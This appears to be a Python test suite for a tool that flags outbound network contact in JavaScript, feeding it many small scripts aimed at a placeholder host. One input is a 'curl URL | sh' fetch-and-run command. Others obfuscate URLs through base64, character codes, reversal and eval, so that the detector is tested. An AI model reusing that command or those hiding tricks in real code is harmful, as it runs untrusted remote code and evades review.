"""Scripts that contact a server, by mechanism, each beside a twin that stays within its own place."""

from __future__ import annotations

import pytest

from tests.examine.outbound.outbound_kit import HOST, outbound, reached

U = f"https://{HOST}/a"

SINKS = {
    "fetch()": f"fetch('{U}')",
    "XMLHttpRequest.open()": f"var r = new XMLHttpRequest(); r.open('GET', '{U}'); r.send()",
    "WebSocket()": f"new WebSocket('wss://{HOST}/a')",
    "EventSource()": f"new EventSource('{U}')",
    "sendBeacon()": f"navigator.sendBeacon('{U}', data)",
    "importScripts()": f"importScripts('a.js', '{U}')",
    "import()": f"import('{U}')",
    "Worker()": f"new Worker('{U}')",
    "SharedWorker()": f"new SharedWorker('{U}')",
    "serviceWorker.register()": f"navigator.serviceWorker.register('{U}')",
    "WebTransport()": f"new WebTransport('{U}')",
    ".src": f"new Image().src = '{U}'",
    ".srcset": f"img.srcset = 'a.png 1x, {U} 2x'",
    ".href": f"var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{U}'",
    "setAttribute(src)": f"s.setAttribute('src', '{U}')",
    "attr(src)": f"$('#a').attr('src', '{U}')",
    "ajax() url": f"$.ajax({{url: '{U}', type: 'POST'}})",
    "get()": f"$.get('{U}', done)",
    "getScript()": f"jQuery.getScript('{U}')",
    "axios() url": f"axios({{url: '{U}'}})",
    "create() baseURL": f"axios.create({{baseURL: '{U}'}})",
    "got()": f"const got = require('got'); got('{U}')",
    "request() url": f"var request = require('request'); request.request({{url: '{U}'}})",
    "get() hostname": f"const https = require('https'); https.get({{hostname: '{HOST}', path: '/a'}})",
    "request() host": f"import {{request}} from 'https'; request({{host: '{HOST}', path: '/a'}})",
    "net.connect()": f"const net = require('net'); net.connect(80, '{HOST}')",
    "tls.connect() host": f"const tls = require('tls'); tls.connect({{host: '{HOST}', port: 443}})",
    "dns.lookup()": f"const dns = require('dns'); dns.lookup('{HOST}', f)",
    "send()": f"socket.send(m, 0, m.length, 514, '{HOST}')",
    "child_process.exec()": f"const {{exec}} = require('child_process'); exec('curl -s {U} | s\x68')",
    "child_process.spawn()": f"const c = require('child_process'); c.spawn('wget', ['-q', '{U}'])",
    "tileLayer": f"L.tileLayer('https://{HOST}/{{z}}/{{x}}/{{y}}.png').addTo(map)",
    "XYZ url": f"new ol.source.XYZ({{url: 'https://{HOST}/{{z}}/{{x}}/{{y}}.png'}})",
    "addSource": f"map.addSource('a', {{type: 'geojson', url: '{U}'}})".replace("addSource", "addSource"),
    "RTCPeerConnection iceServers": f"new RTCPeerConnection({{iceServers: [{{urls: 'stun:{HOST}:3478'}}]}})",
    "<img src>": f"React.createElement('img', {{src: '{U}'}})",
    "loadScript()": f"loadScript('{U}')",
    "loadURL()": f"const w = new BrowserWindow({{}}); w.loadURL('{U}')",
    "setFeedURL()": f"autoUpdater.setFeedURL('{U}')",
    "setFeedURL() url": f"autoUpdater.setFeedURL({{url: '{U}'}})",
}
SINKS["addSource url"] = SINKS.pop("addSource")


@pytest.mark.parametrize("via", SINKS)
def test_sink(via: str) -> None:
    assert (HOST, "code", via) in reached(SINKS[via], "a.js")
    assert {reach for _, reach, _ in reached(SINKS[via], "a.js")} == {"code"}


HELD = {
    "serviceUrl:": f"var defaults = {{serviceUrl: '{U}'}}",
    "dsn:": f"monitor({{dsn: 'https://key@{HOST}/1'}})",
    "tiles:": f"var style = {{sources: {{a: {{tiles: ['https://{HOST}/{{z}}/{{x}}/{{y}}.png']}}}}}}",
    "tiles": f"var t = 'https://{HOST}/{{z}}/{{x}}/{{y}}.png'",
}


@pytest.mark.parametrize("via", HELD)
def test_option_whose_use_is_not_seen_is_contacted_where_it_is_used(via: str) -> None:
    assert reached(HELD[via], "a.js") == {(HOST, "conditional", via)}
    assert all(fact.condition.startswith("where ") and fact.by_code for fact in outbound(HELD[via], "a.js"))


def test_option_whose_use_is_seen_is_told_once() -> None:
    assert reached(f"var o = {{serviceUrl: '{U}'}}; fetch(o.serviceUrl + '/b')", "a.js") == {(HOST, "code", "fetch()")}


def test_a_desktop_program_opens_the_browser_when_its_user_wants_it() -> None:
    assert reached(f"shell.openExternal('{U}')", "main.js") == {(HOST, "interaction", "openExternal()")}
    assert outbound("shell.openExternal(event.url)", "main.js") == []


@pytest.mark.parametrize("call", ["w.loadURL({})", "autoUpdater.setFeedURL({})"])
def test_where_a_desktop_program_gets_its_pages_and_updates_has_to_be_told(call: str) -> None:
    assert {fact.reach for fact in outbound(call.format("settings.home"), "main.js")} == {"opaque"}
    for own in ("`file://${__dirname}/index.html`", "'file://' + __dirname + '/index.html'", "'app://./index.html'"):
        assert outbound(call.format(own), "main.js") == [], own
    other = f"var __dirname = share(); {call.format('`file://${__dirname}/index.html`')}"
    assert {fact.reach for fact in outbound(other, "main.js")} == {"opaque"}


@pytest.mark.parametrize("via", [via for via in SINKS | HELD if "http" in (SINKS | HELD)[via]])
def test_own_place_in_the_same_sink_is_none(via: str) -> None:
    own = (SINKS | HELD)[via].replace(f"https://key@{HOST}/", "/").replace(f"https://{HOST}/", "/own/")
    assert HOST in own or outbound(own, "a.js") == []


EMBEDDED = {
    "img[src]": f"document.write('<img src={U}>')",
    "script[src]": f"document.write('<scr' + 'ipt src=\"{U}\"></scr' + 'ipt>')",
    "iframe[src]": f"el.innerHTML = `<iframe src='{U}'></iframe>`",
    "link[rel=stylesheet]": f"el.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={U}>')",
    ".style.backgroundImage url()": f"el.style.backgroundImage = 'url({U})'",
    ".textContent @import": f"style.textContent = '@import \"{U}\";'",
    "insertRule() url()": f"sheet.insertRule('html {{ background: url({U}) }}')",
}


@pytest.mark.parametrize("via", EMBEDDED)
def test_document_that_a_script_brings_about(via: str) -> None:
    assert reached(EMBEDDED[via], "a.js") == {(HOST, "code", via)}
    assert outbound(EMBEDDED[via].replace(U, "own.png"), "a.js") == []


FOLDED = [
    f"var u = '{U}'; fetch(u)",
    f"const host = '{HOST}'; fetch('https://' + host + '/a/' + id)",
    f"const b = 'https://{HOST}'; fetch(`${{b}}/a`)",
    f"let u; if (a) u = '/own'; else u = '{U}'; fetch(u)",
    f"var u = 'https://'; u += '{HOST}'; u += '/a'; fetch(u)",
    f"function get(u = '{U}') {{ return fetch(u) }} get()",
    f"(function (w, d, u) {{ var s = d.createElement('script'); s.src = u }})(window, document, '{U}')",
    f"!function (d, u) {{ d.createElement('script').src = u }}.call(this, document, '{U}')",
    f"(u => fetch(u))('{U}')",
    f"function load(u) {{ fetch(u) }} load('{U}')",
    f"var load = function (u) {{ fetch(u) }}; load('{U}')",
    f"var c = {{api: {{root: '{U}'}}}}; fetch(c.api.root)",
    f"var c = {{}}; c.root = '{U}'; fetch(c.root + '/b')",
    f"class A {{ root = '{U}'; go() {{ fetch(this.root) }} }} new A().go()",
    f"const {{root}} = {{root: '{U}'}}; fetch(root)",
    f"fetch(new URL('/a', 'https://{HOST}/'))",
    f"fetch(new URL('/a', 'https://{HOST}/').href)",
    f"fetch(['https:', '', '{HOST}', 'a'].join('/'))",
    f"fetch('{U[::-1]}'.split('').reverse().join(''))",
    f"fetch('{U}'.replace('https', 'http'))",
    "fetch('hxxps://x[.]example/a'.replace('hxxp', 'http').replace(/\\[\\.\\]/g, '.'))",
    "fetch(atob('aHR0cHM6Ly94LmV4YW1wbGUvYQ=='))",
    f"fetch(String.fromCharCode({', '.join(str(ord(each)) for each in U)}))",
    f"fetch(String.fromCharCode(...[{', '.join(str(ord(each)) for each in U)}]))",
    "fetch(decodeURIComponent('https%3A%2F%2Fx.example%2Fa'))",
    "fetch(unescape('%68ttps://x.example/a'))",
    r"fetch('\x68\u0074tps:\/\/x\u{2e}example/a')",
    "fetch('https:\\\n//x.example/a')",
    f"fetch('//{HOST}/a')",
    f"fetch(location.protocol + '//{HOST}/a')",
    f"fetch(('https:' == document.location.protocol ? 'https://' : 'http://') + '{HOST}/a')",
    f"fetch(options.url || '{U}')",
    f"window['fetch']('{U}')",
    f"self['fe' + 'tch']('{U}')",
    f"(0, window.fetch)('{U}')",
    f"var hosts = ['{HOST}']; fetch('https://' + hosts[0] + '/a')",
    f"const f = () => '{U}'; fetch(f())",
    f"function f() {{ return '{U}' }} fetch(f())",
    f"eval(\"fetch('{U}')\")",
    f"new Function(\"fetch('{U}')\")()",
    f"setTimeout(\"fetch('{U}')\", 10)",
    f"new Worker(URL.createObjectURL(new Blob([\"importScripts('{U}')\"])))",
    f"new Worker('data:text/javascript,importScripts(\"{U}\")')",
    f"location.href = \"javascript:fetch('{U}')\"",
    f"const f = <T,>(u: string = '{U}'): Promise<T> => fetch(u as string) as any; f()",
    f"const i = <img src='{U}' alt=''/>",
    f"#!/usr/bin/env node\nfetch('{U}')",
    f"<!-- old browsers\nfetch('{U}')\n--> end",
]


@pytest.mark.parametrize("script", FOLDED)
def test_constant_is_followed_to_its_sink(script: str) -> None:
    assert (HOST, "code") in {
        (host, reach) for host, reach, _ in reached(script, "a.tsx" if "T,>" in script else "a.js")
    }


@pytest.mark.parametrize("script", FOLDED)
def test_constants_alone_reach_nothing_as_code(script: str) -> None:
    for sink in ("importScripts", "fetch", "eval", "Function", "setTimeout", "Worker", "location.href", ".src"):
        script = script.replace(sink, ".own" if sink == ".src" else "own")
    script = script.replace("'fe' + 'tch'", "'own'").replace("<img src", "<p title")
    assert {fact.reach for fact in outbound(script, "a.tsx" if "T,>" in script else "a.js")} <= {"string", "opaque"}


@pytest.mark.parametrize(
    ("script", "reach"),
    [
        (f"import a from '{U}'", "automatic"),
        (f"export * from '{U}'", "automatic"),
        (f"window.open('{U}')", "interaction"),
        (f"location.href = '{U}'", "interaction"),
        (f"location = '{U}'", "interaction"),
        (f"location.assign('{U}')", "interaction"),
        (f"form.action = '{U}'", "interaction"),
        (f"button.href = '{U}'", "interaction"),
        (f"var a = document.createElement('a'); a.href = '{U}'", "link"),
        (f"throw Error('see {U} for help')", "string"),
        (f"var docs = '{U}'", "string"),
        (f"var docs = '//{HOST}/a'", "string"),
        (f"var server = {{host: '{HOST}'}}", "string"),
        (f"// {U}", "text"),
        (f"/* {U} */", "text"),
        ("fetch('http://localhost:3000/')", "local"),
        ("fetch('http://192.168.0.1/')", "local"),
    ],
)
def test_other_reaches(script: str, reach: str) -> None:
    assert {fact.reach for fact in outbound(script, "a.mjs")} == {reach}


@pytest.mark.parametrize(
    "script",
    [
        "fetch(u)",
        "function f(u) { fetch(u) }",
        "fetch(`https://${host}/a`)",
        "fetch('https://' + sub + '.example.com/')",
        "new WebSocket(u)",
        "import(u)",
        "s.src = u",
        "s.setAttribute('src', a.b)",
        "x.open(method, u)",
        "eval(u)",
        "new Function(u)",
        "new RTCPeerConnection(c)",
        "el.innerHTML = '<img src=\"' + u + '\">'",
        "el.style.background = 'url(' + u + ')'",
        "window[a](b)",
        "fetch('/' + u)",
        "require('child_process').exec(c)",
        "require('net').connect(80, h)",
    ],
)
def test_sink_whose_host_is_not_constant_is_opaque(script: str) -> None:
    assert {fact.reach for fact in outbound(script, "a.js")} == {"opaque"}


@pytest.mark.parametrize(
    "script",
    [
        "fetch('/api/' + id)",
        "fetch('api?q=' + q)",
        "fetch(location.origin + '/api')",
        "fetch(location.protocol + '//' + location.host + '/api')",
        "new WebSocket('wss://' + window.location.host + '/s')",
        "fetch(new URL('data.json', import.meta.url))",
        "import('./a.js')",
        "import a from './a.js'",
        "map.get(key)",
        "db.open('name', 3)",
        "text.replace('a', 'b')",
        "var a = o.id, b = 'o.id', c = 'main.js'",
        "var c = {host: 'o.id', server: 'main.js'}",
        "s.src = 'data:image/png;base64,' + d",
        "setTimeout(f, 10)",
        "el.innerHTML = '<b>x</b>'",
        "new RTCPeerConnection()",
        "require('fs')",
    ],
)
def test_what_stays_at_home_is_nothing(script: str) -> None:
    assert outbound(script, "a.js") == []


def test_names_of_vocabularies_are_identifiers() -> None:
    assert {fact.reach for fact in outbound("document.createElementNS('http://www.w3.org/2000/svg', 'g')", "a.js")} == {
        "identifier"
    }
    assert {fact.reach for fact in outbound("fetch('http://www.w3.org/2000/svg')", "a.js")} == {"code"}
    for name in ("http://www.w3.org/ns/ttml#parameter", "http://json-schema.org/draft-07/schema#"):
        assert {fact.reach for fact in outbound(f"el.getAttributeNS('{name}', 'a'); map.get('{name}')", "a.js")} == {
            "identifier"
        }
    for other in ("http://www.w3.org/2008/site/js/main.js", "http://www.w3.org.example.com/2000/svg"):
        assert {fact.reach for fact in outbound(f"map.get('{other}')", "a.js")} == {"code"}


def test_subdomains_of_tiles_are_all_named() -> None:
    facts = outbound("L.tileLayer('https://{s}.t.example/{z}/{x}/{y}.png')", "a.js")
    assert {fact.host for fact in facts} == {"a.t.example", "b.t.example", "c.t.example"}
    facts = outbound("var u = 'https://{a-b}.t.example/{z}/{x}/{y}'", "a.js")
    assert {fact.host for fact in facts} == {"a.t.example", "b.t.example"}


def test_dormant_code_is_conditional_and_its_condition_is_shown() -> None:
    [fact] = outbound(f"if (location.hostname === 'a.example') {{\n  fetch('{U}')\n}}", "a.js")
    assert (fact.reach, fact.line, fact.condition) == ("conditional", 2, "if location.hostname === 'a.example'")
    [fact] = outbound(f"DEBUG && fetch('{U}')", "a.js")
    assert (fact.reach, fact.condition) == ("conditional", "if DEBUG")
    [fact] = outbound(f"if (a) {{ fetch('{U}') }}", "a.js")
    assert fact.condition == ""


@pytest.mark.parametrize("leaving", ["return;", "{ return }", "{ own(); return false }", "throw a;"])
def test_what_follows_an_early_return_is_guarded_by_it(leaving: str) -> None:
    guard = "if (location.hostname !== 'a.example')"
    [fact] = outbound(f"function f() {{ {guard} {leaving} fetch('{U}') }} f()", "a.js")
    assert (fact.reach, fact.condition) == ("conditional", "unless location.hostname !== 'a.example'")
    [fact] = outbound(f"function f() {{ {guard} {leaving} }} fetch('{U}')", "a.js")
    assert fact.condition == ""
    [fact] = outbound(f"function f() {{ {guard} own(); fetch('{U}') }} f()", "a.js")
    assert fact.condition == ""
    [fact] = outbound(f"function f() {{ {guard} {{ {leaving} }} else own(); fetch('{U}') }} f()", "a.js")
    assert fact.condition == ""


def test_names_are_those_of_their_scope() -> None:
    script = f"var u = '/own'; function f() {{ var u = '{U}'; return u }} fetch(u)"
    assert {fact.reach for fact in outbound(script, "a.js")} == {"string"}
    script = f"{{ let u = '{U}' }} let u = '/own'; fetch(u)"
    assert {fact.reach for fact in outbound(script, "a.js")} == {"string"}


def test_a_literal_is_told_once() -> None:
    assert [fact.via for fact in outbound(f"var u = '{U}';\nfetch(u)", "a.js")] == ["fetch()"]


def test_urls_of_what_does_not_parse_are_strings_and_the_part_is_opaque() -> None:
    facts = outbound(f"fetch('{U}');\nvar = = ((( '{U}2' }}", "a.js")
    assert {(fact.reach, fact.host) for fact in facts} >= {("code", HOST), ("string", HOST), ("opaque", "")}


def test_results_are_the_same_each_time() -> None:
    script = "".join(
        f"function f{n}(e){{fetch(e.u);a.b(e).c().d(e)}}f{n}({{u:'https://h{n}.example/'}});" for n in range(60)
    )
    first = outbound(script, "a.js")
    assert len({fact.host for fact in first}) >= 60
    assert all(outbound(script, "a.js") == first for _ in range(3))


def test_translations_and_video_of_the_same_suffix_are_no_scripts() -> None:
    assert {fact.reach for fact in outbound(f"const a: string = '{U}'", "a.ts")} == {"string"}
    assert "code" not in {
        fact.reach for fact in outbound(f"<!DOCTYPE TS><TS><message>fetch('{U}')</message></TS>", "a.ts")
    }
